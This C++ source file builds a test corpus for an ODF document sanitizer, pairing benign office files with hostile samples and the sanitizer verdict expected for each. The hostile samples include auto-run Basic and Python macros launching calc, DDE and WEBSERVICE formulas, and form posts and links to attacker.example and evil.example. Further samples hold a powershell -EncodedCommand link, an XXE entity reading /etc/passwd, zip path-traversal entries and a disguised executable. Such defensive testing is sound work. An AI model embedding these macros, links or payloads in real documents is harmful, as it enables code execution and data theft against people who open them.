// Test documents for every finding kind of the ODF module, and benign documents for
// fidelity, with what the engine must do with each.
#include <algorithm>

#include "formats/odf/odf_builder.hpp"
#include "formats/odf/odf_format.hpp"

namespace sanitize::formats {
namespace {

using corpus::blocked;
using corpus::Expectation;
using odf::testing::entry_data;
using odf::testing::insert_before;
using odf::testing::Package;
using odf::testing::replace_first;

const std::vector<std::string> kDeliveredChecks{"odf_valid", "odf_no_active",
                                                "odf_entries_accounted"};
const std::vector<std::string> kFidelityChecks{"odf_text_same", "odf_pictures_kept",
                                               "odf_objects_kept"};

constexpr std::string_view kBasicModule =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<script:module "
    "xmlns:script=\"http://openoffice.org/2000/script\" script:name=\"Module1\" "
    "script:language=\"StarBasic\">Sub AutoOpen\n  Shell(\"cmd.exe /c calc\")\nEnd "
    "Sub</script:module>";
constexpr std::string_view kScriptUrl =
    "vnd.sun.star.script:Standard.Module1.AutoOpen?language=Basic&amp;location=document";

Expectation delivered(std::string verdict, std::vector<std::string> findings,
                      std::vector<std::string> extra = {}) {
  return corpus::delivered(std::move(verdict), std::move(findings), kDeliveredChecks, extra);
}

Expectation sanitized(std::vector<std::string> findings, std::vector<std::string> extra = {}) {
  return delivered("sanitized", std::move(findings), std::move(extra));
}

void benign(corpus::Writer& writer) {
  writer.add(
      "odf/benign/report.odt", odf::testing::text_document().build(),
      delivered("clean", {}, kFidelityChecks),
      "Japanese and English text, heading, table, picture, header and footer, comment, chart, "
      "web link");
  writer.add("odf/benign/budget.ods", odf::testing::spreadsheet().build(),
             delivered("clean", {}, kFidelityChecks),
             "sheet with Japanese and English cells, a SUM formula, comment, picture and chart");
  writer.add("odf/benign/meeting.odp", odf::testing::presentation().build(),
             delivered("clean", {}, kFidelityChecks),
             "two slides: Japanese and English text, footer, picture, comment and chart");
  writer.add("odf/benign/floor-plan.odg", odf::testing::drawing().build(),
             delivered("clean", {}, kFidelityChecks),
             "a drawing: shapes with Japanese and English text, picture, comment and chart");
  Package chart = odf::testing::text_document();
  chart.add("Object 1/styles.xml", odf::testing::styles_xml("<office:styles/>"))
      .add("Object 1/meta.xml", odf::testing::meta_xml("<meta:generator>x</meta:generator>"));
  writer.add("odf/benign/chart-parts.odt", chart.build(), delivered("clean", {}, kFidelityChecks),
             "a chart object with its own styles and metadata");
}

void macros(corpus::Writer& writer) {
  const std::string listeners = std::string(
                                    "<office:scripts><office:event-listeners>"
                                    "<script:event-listener script:language=\"ooo:script\" "
                                    "script:event-name=\"dom:load\" xlink:href=\"") +
                                std::string(kScriptUrl) +
                                "\"/></office:event-listeners></office:scripts>";
  Package basic = odf::testing::text_document({}, listeners);
  basic.add("Basic/Standard/Module1.xml", std::string(kBasicModule))
      .add("Basic/Standard/script-lb.xml", "<library:library/>")
      .add("Basic/script-lc.xml", "<library:libraries/>")
      .add("Dialogs/Standard/Dialog1.xml", "<dlg:window/>");
  writer.add("odf/hostile/basic-autoopen.odt", basic.build(),
             sanitized({"odf.basic_macro", "odf.event_listener"}, kFidelityChecks),
             "StarBasic library run by the document's open event");

  Package template_macro = odf::testing::text_document({}, listeners);
  auto template_archive =
      template_macro.add("Basic/Standard/Module1.xml", std::string(kBasicModule)).archive();
  entry_data(template_archive, "mimetype") = "application/vnd.oasis.opendocument.text-template";
  replace_first(entry_data(template_archive, "META-INF/manifest.xml"),
                "\"application/vnd.oasis.opendocument.text\"/>",
                "\"application/vnd.oasis.opendocument.text-template\"/>");
  writer.add("odf/hostile/macro-template.ott", zip::testing::build(template_archive),
             sanitized({"odf.basic_macro", "odf.event_listener"}), "a text template with a macro");

  Package scripts = odf::testing::spreadsheet(
      {},
      "<office:scripts><office:script script:language=\"JavaScript\">app.run()"
      "</office:script></office:scripts>");
  scripts.add("Scripts/python/evil.py", "import os\nos.system('calc')\n", "")
      .add("Scripts/javascript/Library1/macro.js", "importClass(java.lang.Runtime);", "")
      .add("Basic/Standard/Module1.xml", std::string(kBasicModule));
  writer.add("odf/hostile/scripts.ods", scripts.build(),
             sanitized({"odf.script", "odf.basic_macro"}),
             "Python and JavaScript libraries, an inline office:script, a Basic library");

  const std::string links =
      std::string("<text:p><text:a xlink:type=\"simple\" xlink:href=\"") + std::string(kScriptUrl) +
      "\">click</text:a> <text:a xlink:href=\"macro:///Standard.Module1.Main\">run</text:a> "
      "<text:execute-macro text:name=\"Main\">実行 Run</text:execute-macro> <text:a "
      "xlink:href=\".uno:OpenUrl\">uno</text:a></text:p>"
      "<text:p><draw:a xlink:href=\"javascript:alert(1)\"><draw:frame svg:width=\"1cm\" "
      "svg:height=\"1cm\" text:anchor-type=\"as-char\"><draw:image "
      "xlink:href=\"Pictures/tiny.png\"/>"
      "</draw:frame></draw:a><text:script script:language=\"StarBasic\">MsgBox 1</text:script>"
      "</text:p>";
  writer.add(
      "odf/hostile/macro-links.odt", odf::testing::text_document(links).build(),
      sanitized({"odf.macro_link", "odf.script"}),
      "links, a picture link and a macro field that run macros and scripts (the link text stays)");

  const std::string chart_listener =
      "<office:scripts><office:event-listeners><script:event-listener "
      "script:language=\"ooo:script\" script:event-name=\"dom:load\" xlink:href=\"" +
      std::string(kScriptUrl) + "\"/></office:event-listeners></office:scripts>";
  auto archive = odf::testing::text_document().archive();
  insert_before(entry_data(archive, "Object 1/content.xml"), "<office:body>", chart_listener);
  writer.add("odf/hostile/chart-event.odt", zip::testing::build(archive),
             sanitized({"odf.event_listener"}, {"odf_objects_kept"}),
             "an event listener inside the embedded chart: the chart is rebuilt and kept");
}

void objects(corpus::Writer& writer) {
  Package ole = odf::testing::text_document(
      "<text:p><draw:frame draw:name=\"Object 2\" text:anchor-type=\"as-char\" svg:width=\"3cm\" "
      "svg:height=\"1cm\"><draw:object-ole draw:class-id=\"0003000C-0000-0000-C000-000000000046\" "
      "xlink:href=\"./Object 2\"/><draw:image xlink:href=\"./ObjectReplacements/Object 2\"/>"
      "</draw:frame></text:p>");
  ole.add("Object 2", odf::testing::ole2_storage(), "application/vnd.sun.star.oleobject")
      .add("ObjectReplacements/Object 2",
           std::string("\xD7\xCD\xC6\x9A", 4) + std::string(60, '\0'),
           "application/x-openoffice-wmf;windows_formatname=\"Image WMF\"");
  writer.add(
      "odf/hostile/ole-object.odt", ole.build(),
      sanitized({"odf.ole_object"}, {"odf_objects_kept"}),
      "an OLE package object beside a chart: the OLE object and its picture go, the chart stays");

  const std::string plugins =
      "<text:p><draw:frame svg:width=\"3cm\" svg:height=\"3cm\" text:anchor-type=\"as-char\">"
      "<draw:applet draw:code=\"Evil.class\" xlink:href=\"http://evil.example/applets/\"/>"
      "</draw:frame><draw:frame svg:width=\"3cm\" svg:height=\"3cm\" "
      "text:anchor-type=\"as-char\"><draw:plugin xlink:href=\"http://evil.example/x.swf\" "
      "draw:mime-type=\"application/x-shockwave-flash\"/></draw:frame><draw:frame "
      "svg:width=\"3cm\" svg:height=\"3cm\" text:anchor-type=\"as-char\"><draw:floating-frame "
      "xlink:href=\"http://evil.example/\"/></draw:frame></text:p>";
  writer.add("odf/hostile/applet-plugin.odt", odf::testing::text_document(plugins).build(),
             sanitized({"odf.applet", "odf.plugin", "odf.floating_frame"}),
             "a Java applet, a Flash plugin and a floating frame");

  const std::string form =
      "<office:forms><xforms:model><xforms:instance src=\"https://evil.example/data.xml\"/>"
      "<xforms:submission id=\"send\" action=\"https://evil.example/post\" method=\"post\"/>"
      "</xforms:model><form:form form:name=\"Form\" xlink:href=\"https://evil.example/collect\" "
      "form:method=\"post\" form:datasource=\"sdbc:mysql://evil.example/db\" "
      "form:command=\"SELECT * FROM t\"><form:button form:id=\"control1\" form:name=\"Push\" "
      "form:label=\"押す Push\" form:image-data=\"https://tracker.example/button.png\">"
      "<office:event-listeners><script:event-listener "
      "script:language=\"ooo:script\" script:event-name=\"form:performaction\" xlink:href=\"" +
      std::string(kScriptUrl) +
      "\"/></office:event-listeners></form:button></form:form></office:forms>";
  writer.add(
      "odf/hostile/form-events.odt",
      odf::testing::text_document(
          "<text:p><draw:control draw:control=\"control1\" svg:width=\"3cm\" svg:height=\"1cm\" "
          "text:anchor-type=\"as-char\"/></text:p>",
          {}, form)
          .build(),
      sanitized({"odf.form_event", "odf.form_submit", "odf.data_source", "odf.remote_resource"},
                kFidelityChecks),
      "a form that posts to a URL and reads a database, an XForms model that loads and posts "
      "its data remotely, a button that runs a macro and shows a remote picture");
}

void external(corpus::Writer& writer) {
  const std::string links =
      "<text:p><text:a xlink:href=\"file:///C:/Windows/System32/calc.exe\">file</text:a> "
      "<text:a xlink:href=\"\\\\attacker.example\\share\\doc.docx\">unc</text:a> "
      "<text:a xlink:href=\"//attacker.example/share\">unc2</text:a> "
      "<text:a xlink:href=\"ms-msdt:/id PCWDiagnostic\">msdt</text:a> "
      "<text:a xlink:href=\"#表1\">internal</text:a> "
      "<text:a xlink:href=\"../other.odt\">relative</text:a></text:p>"
      "<text:p><draw:frame svg:width=\"1cm\" svg:height=\"1cm\" text:anchor-type=\"as-char\">"
      "<draw:image xlink:href=\"https://tracker.example/pixel.png\"/></draw:frame></text:p>"
      "<text:section text:name=\"linked\"><text:section-source "
      "xlink:href=\"https://evil.example/part.odt\" text:filter-name=\"writer8\"/>"
      "<text:p>cached section text</text:p></text:section>"
      "<text:section text:name=\"share\"><text:section-source "
      "xlink:href=\"file://attacker.example/share/part.odt\"/><text:p>cached</text:p>"
      "</text:section>";
  Package package = odf::testing::text_document(links);
  auto archive = package.archive();
  insert_before(entry_data(archive, "meta.xml"), "</office:meta>",
                "<meta:template xlink:type=\"simple\" "
                "xlink:href=\"\\\\attacker.example\\templates\\normal.ott\" "
                "xlink:title=\"normal\"/><meta:auto-reload "
                "xlink:href=\"https://evil.example/next.odt\" meta:delay=\"PT0S\"/>");
  writer.add("odf/hostile/external-links.odt", zip::testing::build(archive),
             sanitized({"odf.unsafe_link", "odf.remote_resource", "odf.template_link"}),
             "links to files, shares and ms-msdt:, a remote picture, linked sections, a remote "
             "template and an automatic reload; web, relative and internal links stay");

  const std::string cells =
      "<table:table-cell table:formula=\"of:=DDE(&quot;cmd&quot;;&quot;/c "
      "calc&quot;;&quot;A1&quot;)\" "
      "office:value-type=\"float\" office:value=\"0\"><text:p>0</text:p></table:table-cell>"
      "<table:table-cell table:formula=\"of:=COM.MICROSOFT.WEBSERVICE(&quot;https://evil.example/"
      "?q=&quot;&amp;[.A1])\" office:value-type=\"string\" office:string-value=\"x\"><text:p>x"
      "</text:p></table:table-cell>"
      "<table:table-cell table:formula=\"of:=SUM(['file://attacker.example/share/b.ods'#$Sheet1.A1:"
      ".A3])\" office:value-type=\"float\" office:value=\"6\"><text:p>6</text:p>"
      "</table:table-cell>"
      "<table:table-cell table:formula=\"of:=HYPERLINK(&quot;file://attacker.example/share/"
      "x.ods&quot;;&quot;open&quot;)\" office:value-type=\"string\" office:string-value=\"open\">"
      "<text:p>open</text:p></table:table-cell>"
      "<table:table-cell table:formula=\"of:=HYPERLINK(&quot;https://www.example.jp/&quot;;"
      "&quot;web&quot;)\" office:value-type=\"string\" office:string-value=\"web\">"
      "<text:p>web</text:p></table:table-cell>"
      "<table:table-cell table:formula=\"of:=CONCATENATE(&quot;DDE(&quot;;1)\" "
      "office:value-type=\"string\" office:string-value=\"DDE(1\"><text:p>DDE(1</text:p>"
      "</table:table-cell>";
  Package dde = odf::testing::spreadsheet(cells);
  auto dde_archive = dde.archive();
  std::string& dde_content = entry_data(dde_archive, "content.xml");
  insert_before(
      dde_content, "</office:spreadsheet>",
      "<table:database-ranges><table:database-range table:name=\"db\" "
      "table:target-range-address=\"'予算 Budget'.A1:'予算 Budget'.C4\">"
      "<table:database-source-sql table:database-name=\"evil\" "
      "table:sql-statement=\"SELECT 1\"/></table:database-range></table:database-ranges>"
      "<table:dde-links><table:dde-link><office:dde-source office:dde-application=\"cmd\" "
      "office:dde-topic=\"/c calc\" office:dde-item=\"A1\"/><table:table/></table:dde-link>"
      "</table:dde-links>");
  insert_before(dde_content, "</table:table>",
                "<table:table-row><table:table-cell "
                "office:value-type=\"string\"><text:p>linked</text:p>"
                "</table:table-cell></table:table-row>");
  insert_before(dde_content, "<table:shapes>",
                "<table:table-source xlink:href=\"https://evil.example/data.ods\" "
                "table:table-name=\"Sheet1\" table:mode=\"copy-results-only\"/>");
  writer.add(
      "odf/hostile/dde-and-data.ods", zip::testing::build(dde_archive),
      sanitized({"odf.dde_link", "odf.remote_resource", "odf.data_source", "odf.unsafe_link"}),
      "a DDE formula, a WEBSERVICE formula, a reference into a workbook on a share, a HYPERLINK "
      "formula to a share (the one to a web site stays), DDE links, a "
      "database range over SQL and a linked sheet; a string that only mentions DDE( stays");

  const std::string validation =
      "<table:content-validations><table:content-validation table:name=\"val1\" "
      "table:condition=\"of:cell-content-is-whole-number()\"><table:error-macro "
      "table:execute=\"true\"/><office:event-listeners><script:event-listener "
      "script:language=\"ooo:script\" script:event-name=\"dom:click\" xlink:href=\"" +
      std::string(kScriptUrl) +
      "\"/></office:event-listeners></table:content-validation></table:content-validations>";
  auto validated = odf::testing::spreadsheet().archive();
  insert_before(entry_data(validated, "content.xml"), "<table:table ", validation);
  writer.add("odf/hostile/validation-macro.ods", zip::testing::build(validated),
             sanitized({"odf.macro_link", "odf.event_listener"}, kFidelityChecks),
             "a cell validation that runs a macro on bad input");

  const std::string actions =
      "<draw:frame svg:x=\"2cm\" svg:y=\"15cm\" svg:width=\"5cm\" svg:height=\"1cm\">"
      "<draw:text-box><text:p>開く Open</text:p></draw:text-box><office:event-listeners>"
      "<presentation:event-listener script:event-name=\"dom:click\" "
      "presentation:action=\"execute\" "
      "xlink:href=\"C:\\Windows\\System32\\cmd.exe\"/></office:event-listeners></draw:frame>"
      "<draw:frame svg:x=\"8cm\" svg:y=\"15cm\" svg:width=\"5cm\" svg:height=\"1cm\">"
      "<draw:text-box><text:p>次へ Next</text:p></draw:text-box><office:event-listeners>"
      "<presentation:event-listener script:event-name=\"dom:click\" "
      "presentation:action=\"next-page\"/></office:event-listeners></draw:frame>"
      "<draw:a xlink:href=\"../../powershell.exe%20-NoExit%20-EncodedCommand%20ZQBjAGgAbwA=\">"
      "<draw:frame svg:x=\"2cm\" svg:y=\"17cm\" svg:width=\"5cm\" svg:height=\"1cm\">"
      "<draw:text-box><text:p>実行 Run</text:p></draw:text-box></draw:frame></draw:a>"
      "<draw:frame svg:x=\"14cm\" svg:y=\"15cm\" svg:width=\"5cm\" svg:height=\"1cm\">"
      "<draw:text-box><text:p>共有 Share</text:p></draw:text-box><office:event-listeners>"
      "<presentation:event-listener script:event-name=\"dom:click\" presentation:action=\"show\" "
      "xlink:href=\"file://attacker.example/share/x.odp\"/><script:event-listener "
      "script:language=\"ooo:script\" script:event-name=\"dom:mouseover\" xlink:href=\"" +
      std::string(kScriptUrl) + "\"/></office:event-listeners></draw:frame>";
  writer.add("odf/hostile/slide-actions.odp", odf::testing::presentation(actions).build(),
             sanitized({"odf.event_listener", "odf.unsafe_link"}, kFidelityChecks),
             "click actions that run a program, open a share and run a macro on mouse-over; "
             "next-page stays");
}

void package_content(corpus::Writer& writer) {
  Package junk = odf::testing::text_document(
      "<text:p>foreign<evil:payload xmlns:evil=\"urn:evil\">data</evil:payload></text:p>");
  junk.add("settings.xml",
           odf::testing::settings_xml(
               "<config:config-item-set config:name=\"ooo:configuration-settings\">"
               "<config:config-item config:name=\"PrinterName\" config:type=\"string\">"
               "\\\\printserver\\floor3</config:config-item><config:config-item "
               "config:name=\"PrinterSetup\" config:type=\"base64Binary\">AAAA</config:config-item>"
               "</config:config-item-set>"))
      .add("META-INF/documentsignatures.xml", "<document-signatures/>")
      .add("Configurations2/menubar/menubar.xml",
           "<menu:menubar><menu:menuitem menu:id=\"macro:///Standard.Module1.Main\"/>"
           "</menu:menubar>")
      .add_unlisted("Configurations2/toolbar/", "")
      .add("layout-cache", std::string("\x01\x02\x03\x04", 4), "application/binary")
      .add("Fonts/evil.ttf", std::string(64, 'F'), "application/x-font-ttf")
      .add_unlisted("Versions/Version1", "old content");
  writer.add(
      "odf/hostile/package-junk.odt", junk.build(),
      sanitized({"odf.foreign_markup", "odf.printer_settings", "odf.signature",
                 "odf.ui_configuration", "odf.unknown_entry"},
                kFidelityChecks),
      "foreign markup, printer settings, a signature, a menu bound to a macro, a layout cache, "
      "an embedded font and an old version");

  auto doctype = odf::testing::text_document().archive();
  insert_before(entry_data(doctype, "content.xml"), "<office:document-content",
                "<!DOCTYPE office:document-content [<!ENTITY xxe SYSTEM "
                "\"file:///etc/passwd\"><!ENTITY lol \"lol\">]><?evil run?>");
  writer.add("odf/hostile/doctype.odt", zip::testing::build(doctype),
             sanitized({"odf.doctype", "odf.processing_instruction"}, kFidelityChecks),
             "a DOCTYPE declaring external and internal entities, and a processing instruction");

  Package pictures = odf::testing::text_document(
      "<text:p><draw:frame svg:width=\"1cm\" svg:height=\"1cm\" text:anchor-type=\"as-char\">"
      "<draw:image xlink:href=\"Pictures/fake.png\"/></draw:frame><draw:frame svg:width=\"1cm\" "
      "svg:height=\"1cm\" text:anchor-type=\"as-char\"><draw:image xlink:href=\"Pictures/"
      "vector.wmf\"/></draw:frame><draw:frame svg:width=\"1cm\" svg:height=\"1cm\" "
      "text:anchor-type=\"as-char\"><draw:image xlink:href=\"Pictures/drawing.svg\"/></draw:frame>"
      "<draw:frame svg:width=\"1cm\" svg:height=\"1cm\" text:anchor-type=\"as-char\"><draw:image>"
      "<office:binary-data>TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA</office:binary-data>"
      "</draw:image></draw:frame></text:p>");
  pictures.add("Pictures/fake.png", "MZ\x90\x00 this is a program", "image/png")
      .add("Pictures/vector.wmf", std::string("\xD7\xCD\xC6\x9A", 4) + std::string(40, '\0'),
           "image/x-wmf")
      .add("Pictures/drawing.svg",
           "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
           "image/svg+xml");
  writer.add(
      "odf/hostile/pictures.odt", pictures.build(),
      sanitized({"odf.picture_mismatch", "odf.metafile", "odf.picture_blocked"}, kFidelityChecks),
      "a program named .png, a WMF, an SVG with a script and an inline program as a picture; "
      "the real PNG and the chart stay");

  writer.add("odf/hostile/chart-svm-replacement.odt",
             zip::testing::build(odf::testing::chart_with_svm_replacement()),
             sanitized({"odf.metafile"}, {"odf_objects_kept", "odf_text_same"}),
             "a chart whose replacement picture is an SVM metafile, as LibreOffice writes it: the "
             "picture goes, the chart stays");
}

void structure(corpus::Writer& writer) {
  auto hostile_names = odf::testing::text_document().archive();
  zip::testing::RawEntry traversal;
  traversal.name = "../../evil.xml";
  traversal.data = "<x/>";
  hostile_names.entries.push_back(traversal);
  zip::testing::RawEntry duplicate;
  duplicate.name = "content.xml";
  duplicate.data = "<office:document-content/>";
  hostile_names.entries.push_back(duplicate);
  zip::testing::RawEntry absolute;
  absolute.name = "/etc/evil";
  absolute.data = "x";
  hostile_names.entries.push_back(absolute);
  writer.add("odf/hostile/entry-names.odt", zip::testing::build(hostile_names),
             sanitized({"odf.unsafe_entry"}, kFidelityChecks),
             "a traversal name, an absolute name and a second content.xml");

  auto repaired = odf::testing::text_document().archive();
  std::rotate(repaired.entries.begin(), repaired.entries.begin() + 1, repaired.entries.end());
  repaired.entries.back().deflate = true;
  writer.add(
      "odf/hostile/mimetype-last.odt", zip::testing::build(repaired),
      sanitized({"odf.package_repaired"}, kFidelityChecks),
      "the mimetype entry last and compressed: LibreOffice opens it, the rebuild repairs it");

  Package encrypted = odf::testing::text_document();
  encrypted.encrypt("content.xml");
  writer.add("odf/blocked/encrypted.odt", encrypted.build(), blocked("encrypted"),
             "content.xml encrypted with a password (manifest:encryption-data)");

  writer.add("odf/blocked/no-manifest.odt",
             odf::testing::text_document().without_manifest().build(), blocked("corrupt"),
             "no META-INF/manifest.xml");

  auto broken = odf::testing::text_document().archive();
  std::string& broken_content = entry_data(broken, "content.xml");
  broken_content.resize(broken_content.size() / 2);
  writer.add("odf/blocked/broken-content.odt", zip::testing::build(broken), blocked("corrupt"),
             "content.xml cut in half: not well-formed");

  const std::string whole = odf::testing::text_document().build();
  writer.add(
      "odf/blocked/truncated.odt", whole.substr(0, whole.size() - 40),
      blocked("extension_not_allowed"),
      "the package cut short: no central directory, so nothing shows it is ODF; a damaged zip "
      "may not be named .odt");

  Package staroffice("application/vnd.sun.xml.writer");
  staroffice.add("content.xml", "<office:document-content/>");
  writer.add("odf/blocked/legacy.sxw", staroffice.build(), blocked("unsupported_format"),
             "an OpenOffice.org 1.x document");

  Package formula("application/vnd.oasis.opendocument.formula");
  formula.add("content.xml", "<math:math xmlns:math=\"http://www.w3.org/1998/Math/MathML\"/>");
  writer.add("odf/blocked/formula.odf", formula.build(), blocked("unsupported_format"),
             "a standalone formula document: no module for it");

  auto no_mimetype = odf::testing::text_document().archive();
  no_mimetype.entries.erase(no_mimetype.entries.begin());
  writer.add("odf/blocked/no-mimetype.odt", zip::testing::build(no_mimetype),
             blocked("unsupported_format"), "a manifest but no mimetype entry");

  writer.add("odf/blocked/renamed.docx", odf::testing::text_document().build(),
             blocked("extension_not_allowed"), "an ODF text named .docx");
}

}  // namespace

void generate_odf_corpus(corpus::Writer& writer) {
  benign(writer);
  macros(writer);
  objects(writer);
  external(writer);
  package_content(writer);
  structure(writer);
}

}  // namespace sanitize::formats
